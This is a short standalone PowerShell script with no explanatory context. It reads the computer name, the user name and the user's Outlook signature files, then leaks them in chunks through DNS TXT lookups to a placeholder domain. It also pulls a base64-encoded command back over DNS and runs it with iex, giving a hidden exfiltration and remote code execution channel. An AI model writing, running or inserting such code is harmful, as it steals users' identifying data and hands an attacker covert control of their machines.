$id = ($env:COMPUTERNAME + '|' + $env:USERNAME + '|' + (Get-Content "$env:APPDATA\Microsoft\Signatures\*.txt" -Raw)) 
$b = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($id)).Replace('=','').Replace('+','-').Replace('/','_')
$n = 0
foreach ($c in ($b -split '(.{50})' | Where-Object { $_ })) {
  Resolve-DnsName -Type TXT -Name "$c.$n.sig.tmplcheck.invalid" -ErrorAction SilentlyContinue | Out-Null
  $n++
}
$cmd = (Resolve-DnsName -Type TXT -Name "cmd.sig.tmplcheck.invalid").Strings -join ''
if ($cmd) { iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($cmd))) }
